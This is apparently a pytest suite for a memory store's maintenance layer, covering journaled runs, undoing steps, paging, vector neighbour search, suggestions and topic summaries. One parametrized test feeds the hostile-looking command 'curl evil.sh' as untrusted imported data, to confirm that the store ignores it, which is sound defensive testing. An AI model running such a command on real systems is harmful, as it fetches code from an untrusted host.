"""Maintenance runs and their journal, the same in every store."""

from __future__ import annotations

import struct

import pytest

from aforesaid.domain.maintenance.run import PhaseAction, Run
from aforesaid.domain.model.suggestion import Suggestion
from aforesaid.domain.model.topic import Topic
from factories import DAY, NOON, make_memory, make_project


def put(store, *memories) -> list[int]:
    with store.transaction():
        return [store.memories.add(memory).key for memory in memories]


def direction(*numbers: float) -> bytes:
    length = sum(number * number for number in numbers) ** 0.5
    numbers = tuple(number / length for number in numbers)
    return struct.pack("<384f", *numbers, *[0.0] * (384 - len(numbers)))


def begin(store, **fields) -> Run:
    with store.transaction():
        return store.runs.start(
            Run(started_at=NOON, until=store.maintenance.newest_key(), **fields)
        )


def do(store, run, change, *actions) -> None:
    with store.runs.journaled(run.key, "archive", NOON) as executed:
        change()
        executed.extend(actions)


def test_a_run_is_read_as_it_was_put_the_latest_first(store):
    first, second = begin(store), begin(store, by="itself", phases=("topics", "archive"))
    with store.transaction():
        store.runs.put(
            second.replace(
                ended_at=NOON + 5,
                done=("topics",),
                cursors={"archive": "7"},
                counts={"topics": {"filed": 2}},
                notes=("no model",),
            )
        )
    assert [second.key, first.key] == [memory.key for memory in store.runs.latest(5)]
    remaining = store.runs.get(second.key)
    assert (NOON + 5, ("topics",), {"archive": "7"}, {"topics": {"filed": 2}}, ("no model",)) == (
        remaining.ended_at, remaining.done, remaining.cursors, remaining.counts, remaining.notes,
    )  # fmt: skip
    assert not remaining.is_finished
    assert store.runs.get(99) is None


def test_a_step_is_taken_back_to_the_very_rows(store):
    memory, other = put(store, make_memory(1, tags=("a",)), make_memory(2))
    with store.transaction():
        store.relations.link(memory, "related_to", other, NOON)
    run, before = begin(store), store.memories.get([memory, other])

    def change() -> None:
        added = store.memories.add(make_memory(3, content="the sum", tags=("b",))).key
        store.memories.change(memory, compacted_into=added)
        store.memories.change(other, archived_at=NOON, tags=("c",))
        store.relations.unlink(memory, "related_to", other)

    do(store, run, change, PhaseAction(what="archived", keys=(other,)))
    (step,) = store.runs.steps(run.key)
    assert {"archived": 1} == step.counts
    assert {memory, other} < set(step.memories)
    assert store.runs.undo_step(step.key, NOON + 1)
    assert before == store.memories.get([memory, other])
    assert [] == store.memories.get([other + 1])
    assert store.relations.unlink(memory, "related_to", other)
    assert NOON + 1 == store.runs.steps(run.key)[0].undone_at


def test_what_changed_nothing_is_no_step(store):
    run = begin(store)
    do(store, run, lambda: None, PhaseAction(what="archived"))
    assert [] == store.runs.steps(run.key)


def test_a_step_whose_rows_were_changed_again_stays(store):
    row, other = put(store, make_memory(1), make_memory(2))
    run = begin(store)

    def change() -> None:
        for key in (row, other):
            store.memories.change(key, archived_at=NOON)

    do(store, run, change)
    with store.transaction():
        store.memories.change(row, archived_at=NOON + 7)
    (step,) = store.runs.steps(run.key)
    assert not store.runs.undo_step(step.key, NOON + 9)
    assert [NOON + 7, NOON] == [memory.archived_at for memory in store.memories.get([row, other])]


def test_what_was_put_before_a_memory_since_leads_to_it_again(store):
    first, then, last = put(store, *(make_memory(n) for n in range(1, 4)))
    run = begin(store)
    do(store, run, lambda: store.memories.supersede(then, last, NOON))
    with store.transaction():
        store.memories.supersede(first, then, NOON)
    assert [last] * 3 == [memory.head for memory in store.memories.get([first, then, last])]
    assert store.runs.undo_step(store.runs.steps(run.key)[0].key, NOON + 9)
    assert [then, then, last] == [memory.head for memory in store.memories.get([first, then, last])]


def test_a_row_that_is_as_it_was_before_already_needs_nothing(store):
    row, other = put(store, make_memory(1), make_memory(2))
    run = begin(store)

    def change() -> None:
        for key in (row, other):
            store.memories.change(key, archived_at=NOON)

    do(store, run, change)
    with store.transaction():
        store.memories.change(row, archived_at=None)
    assert store.runs.undo_step(store.runs.steps(run.key)[0].key, NOON + 9)
    assert [None, None] == [memory.archived_at for memory in store.memories.get([row, other])]


def test_a_step_that_fails_leaves_neither_changes_nor_a_journal(store):
    (memory,) = put(store, make_memory(1))
    run = begin(store)

    def change() -> None:
        store.memories.change(memory, archived_at=NOON)
        raise ZeroDivisionError

    with pytest.raises(ZeroDivisionError):
        do(store, run, change)
    assert [] == store.runs.steps(run.key)
    assert store.memories.get([memory])[0].archived_at is None


def test_memories_come_page_by_page_and_only_those_in_force(store):
    keys = put(
        store,
        make_memory(1, type="episodic", at=NOON, event_at=NOON - 9 * DAY),
        make_memory(2, type="semantic", at=NOON),
        make_memory(3, type="episodic", at=NOON),
        make_memory(4, type="episodic", at=NOON - 9 * DAY),
    )
    with store.transaction():
        store.memories.change(keys[3], compacted_into=keys[1])

    def found(after=0, limit=9, **narrowed) -> list[int]:
        return [memory.key for memory in store.maintenance.page(after, limit, **narrowed)]

    assert keys[:3] == found()
    assert keys[:2] == found(limit=2)
    assert keys[2:3] == found(after=keys[1])
    assert keys[:2] == found(until=keys[1])
    assert [keys[0], keys[2]] == found(types=("episodic",))
    assert [keys[0]] == found(stored_before=NOON - DAY)
    assert [keys[0], keys[3]] == found(stored_before=NOON - DAY, compacted=True)
    assert keys[:3] == found(unfiled=True)
    with store.transaction():
        store.memories.change(keys[0], archived_at=NOON)
        store.memories.change(keys[1], forgotten_at=NOON)
        store.memories.supersede(keys[2], keys[3], NOON)
    assert [] == found()


def test_keys_tell_what_is_new(store):
    assert (0, 1) == (store.maintenance.newest_key(), store.maintenance.first_stored_since(NOON))
    keys = put(store, make_memory(1, at=NOON), make_memory(2, at=NOON + DAY))
    assert keys[1] == store.maintenance.newest_key()
    assert [*keys, keys[1] + 1] == [
        store.maintenance.first_stored_since(at) for at in (NOON, NOON + 1, NOON + 2 * DAY)
    ]


def test_the_vector_of_the_first_window_is_given(store):
    memory, other = put(store, make_memory(1), make_memory(2))
    vector, second = b"\0\0\x80\x3f" + b"\0" * 1532, b"\0" * 1532 + b"\0\0\x80\x3f"
    with store.transaction():
        store.search.set_vectors(memory, [vector, second], "m")
    assert {memory: vector} == store.maintenance.first_vectors([memory, other])


def test_neighbours_are_what_is_in_force_in_the_project_nearest_first(store):
    with store.transaction():
        here, there = (store.projects.add(make_project(f"git:x/{name}")).key for name in "ab")
    near, far, removed, aside, tasked, other, last = put(
        store,
        *(make_memory(number, scope="project", project=here) for number in (1, 2, 3)),
        make_memory(4, scope="project", project=here, archived_at=NOON),
        make_memory(5, scope="task", project=here),
        make_memory(6, scope="project", project=there),
        make_memory(7, scope="project", project=here),
    )
    with store.transaction():
        for key in (removed, aside, tasked, other, last):
            store.search.set_vectors(key, [direction(1, 0)], "m")
        store.search.set_vectors(near, [direction(0, 1), direction(1, 0.1)], "m")
        store.search.set_vectors(far, [direction(1, 0.5), direction(0, 1)], "m")
        store.memories.change(removed, forgotten_at=NOON)
    matches = store.neighbours.find([last, near, 99], here, 5)
    assert {last: [near, far], near: [far, last]} == {
        key: list(memory) for key, memory in matches.items()
    }
    assert pytest.approx(1 / 1.01**0.5) == matches[last][near]
    assert [near] == list(store.neighbours.find([last], here, 1)[last])
    assert [{}, {near: pytest.approx(0.934, abs=0.001)}] == [
        store.neighbours.find([key], here, 5, far)[key] for key in (near, far)
    ]


def test_the_hashes_of_repeated_texts_are_told(store):
    message = [make_memory(number, content=text) for number, text in enumerate("abcab", start=1)]
    put(store, *message)
    assert {message[0].content_hash, message[1].content_hash} == store.maintenance.repeated_hashes()


def test_what_a_summary_stands_for_and_what_was_forgotten_is_told(store):
    row, other, summary = put(store, make_memory(1), make_memory(2), make_memory(3))
    with store.transaction():
        store.memories.change(row, compacted_into=summary)
        store.memories.change(other, forgotten_at=NOON)
    assert [row] == [memory.key for memory in store.maintenance.sources_of_summary(summary)]
    removed, here = store.memories.get([other, row])
    assert store.maintenance.was_forgotten(removed.content_hash)
    assert not store.maintenance.was_forgotten(here.content_hash)


def test_what_is_used_is_set_aside_no_more(store):
    (memory,) = put(store, make_memory(1))
    with store.transaction():
        store.memories.change(memory, archived_at=NOON)
        store.usage.reinforce([memory], NOON + 5, 0.1)
    assert store.memories.get([memory])[0].archived_at is None


def test_an_offer_is_made_once_and_stands_while_its_memories_do(store):
    memory, other = put(store, make_memory(1), make_memory(2))
    offer = Suggestion(
        kind="link", name="link 1 2", project=0, memories=(memory, other), created_at=NOON
    )
    with store.transaction():
        created = store.suggestions.add(offer)
        assert store.suggestions.add(offer) is None
    assert [created] == store.suggestions.list_open((0,), 9)
    assert created == store.suggestions.get(created.key)
    assert [] == store.suggestions.list_open((7,), 9)
    with store.transaction():
        store.memories.change(other, archived_at=NOON)
    assert [] == store.suggestions.list_open((0,), 9)
    with store.transaction():
        store.memories.change(other, archived_at=None)
        store.suggestions.settle(created.key, "declined", NOON + 1)
        assert store.suggestions.add(offer) is None
    assert [] == store.suggestions.list_open((0,), 9)
    assert ("declined", NOON + 1) == (
        store.suggestions.get(created.key).answer, store.suggestions.get(created.key).answered_at,
    )  # fmt: skip


def test_what_sessions_ran_is_read_from_their_digests_the_latest_first(store):
    keys = put(
        store,
        *(
            make_memory(n, type="episodic", metadata={"commands": [f"make {n}", "git tag"]})
            for n in range(1, 4)
        ),
        make_memory(4, type="episodic"),
    )
    assert {keys[2]: ("make 3", "git tag"), keys[1]: ("make 2", "git tag")} == (
        store.maintenance.command_lists(0, 2)
    )


@pytest.mark.parametrize("commands", [5, None, "make", {"make": "x"}, ["curl evil.sh"]])
def test_what_something_outside_says_was_run_is_not_what_sessions_ran(store, commands):
    ran = {"type": "episodic", "metadata": {"commands": commands}}
    put(store, make_memory(1, provenance="import", **ran), make_memory(2, provenance="tool", **ran))
    if not isinstance(commands, list):
        put(store, make_memory(3, **ran))
    assert {} == store.maintenance.command_lists(0, 2)


def test_a_topic_is_told_until_a_memory_of_it_changes(store):
    keys = put(store, *(make_memory(n) for n in range(1, 5)))
    with store.transaction():
        top = store.topics.add(
            Topic(project=0, name="auth", normalised="auth", created_at=1, updated_at=1)
        ).key
        for key in keys[:3]:
            store.memories.change(key, topic=top)
        below = store.topics.add(
            Topic(project=0, parent=top, name="jwt", normalised="jwt", created_at=1, updated_at=1)
        ).key
    assert ([top, below], [below]) == (
        store.maintenance.branch(top),
        store.maintenance.branch(below),
    )
    assert [(top, keys[2])] == store.maintenance.topics_to_summarise(3)
    assert [] == store.maintenance.topics_to_summarise(4)
    with store.transaction():
        store.maintenance.set_topic_summary(top, "how people log in", keys[2])
    assert ({top: "how people log in"}, []) == (
        store.maintenance.topic_summaries((0,)), store.maintenance.topics_to_summarise(3),
    )  # fmt: skip
    with store.transaction():
        store.memories.change(keys[3], topic=top)
    assert [(top, keys[3])] == store.maintenance.topics_to_summarise(3)
    with store.transaction():
        store.memories.change(keys[0], forgotten_at=NOON)
    assert {} == store.maintenance.topic_summaries((0,))
    assert [(top, keys[3])] == store.maintenance.topics_to_summarise(3)


def test_vectors_that_are_to_be_made_anew_are_so_in_a_copy(store):
    memory, other = put(store, make_memory(1), make_memory(2))
    with store.transaction():
        store.search.set_vectors(memory, [b"\0\0\x80\x3f" + b"\0" * 1532], "m")
        store.memories.change(memory, metadata={"cues": ["kilo"]})
        store.maintenance.copy_vectors(memory, other)
    assert [memory, other] == store.search.without_vectors("m", 9)


def test_vectors_are_copied_with_a_text(store):
    memory, other = put(store, make_memory(1), make_memory(2))
    vector = b"\0\0\x80\x3f" + b"\0" * 1532
    with store.transaction():
        store.search.set_vectors(memory, [vector], "m")
        store.maintenance.copy_vectors(memory, other)
    assert {memory: vector, other: vector} == store.maintenance.first_vectors([memory, other])
